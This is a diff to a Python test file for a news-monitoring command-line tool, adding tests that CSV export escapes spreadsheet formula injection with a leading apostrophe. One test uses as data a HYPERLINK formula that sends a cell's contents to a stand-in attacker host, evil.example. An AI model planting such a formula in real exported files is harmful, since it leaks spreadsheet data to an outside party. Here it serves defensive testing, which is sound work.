@@ -8,6 +8,7 @@ import json
 import re
 import sys
 from collections.abc import Callable
+from contextlib import closing
 from pathlib import Path
 
 import pytest
@@ -17,12 +18,15 @@ from typer.testing import CliRunner
 from otswatch import dossiers, taxonomy
 from otswatch.bus import Outgoing
 from otswatch.bus.sqlite import SqliteBus
-from otswatch.cli import app, main
+from otswatch.cli import app, common, main
+from otswatch.cli.common import write_csv
 from otswatch.consumers.topology import CONSUMERS
-from otswatch.records import Page
+from otswatch.index.projection import project_article
+from otswatch.index.sqlite import SqliteIndex
+from otswatch.records import Content, Page
 from otswatch.status import Reason
 from tests.commandline import Said, otswatch
-from tests.factory import ABOUT, ELSEWHERE, FETCHED, page
+from tests.factory import ABOUT, ELSEWHERE, FETCHED, article, page
 from tests.test_docs import COMMANDS
 
 HERE = "https://steppe-wire.example"
@@ -147,6 +151,31 @@ def test_an_empty_folder_is_no_error(command: Command):
     assert command("search").err == "0 of 0 articles\n"
     assert command("quarantine", "list").out == "nothing is in quarantine\n"
     assert json.loads(command("search", "--format", "json").out)["articles"] == []
+
+
+def test_what_a_page_is_called_is_no_formula_in_a_spreadsheet(tmp_path: Path, command: Command):
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Organization of Turkic States meets")'
+    content = Content(title=title, text="The Organization of Turkic States met.", language="en", extractor="test/1")
+    with closing(SqliteIndex(tmp_path / "data" / "index.sqlite")) as index:
+        index.put([project_article(article("a", "", content=content))])
+    [row] = csv.DictReader(io.StringIO(command("search", "--format", "csv", data=str(tmp_path / "data")).out))
+    assert row["title"] == f"'{title}"
+
+
+@pytest.mark.parametrize(("cell", "written"), [("+998 71 200", "'+998 71 200"), ("@x", "'@x"), ("-2 °C", "'-2 °C"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (-7, "-7"), (None, "")])  # fmt: skip
+def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(
+    capsys: pytest.CaptureFixture[str], cell: object, written: str
+):
+    write_csv(("id", "cell"), [("a", cell)])
+    assert list(csv.reader(io.StringIO(capsys.readouterr().out, newline=""))) == [["id", "cell"], ["a", written]]
+
+
+def test_every_csv_is_written_in_the_one_place_that_knows_of_formulas():
+    places = {
+        path.name for path in Path(common.__file__).parent.glob("*.py") if "csv.writer(" in path.read_text("utf-8")
+    }
+    assert places == {"common.py"}
 
 
 def test_what_a_query_was_read_as_is_shown_and_can_be_switched_off(command: Command):
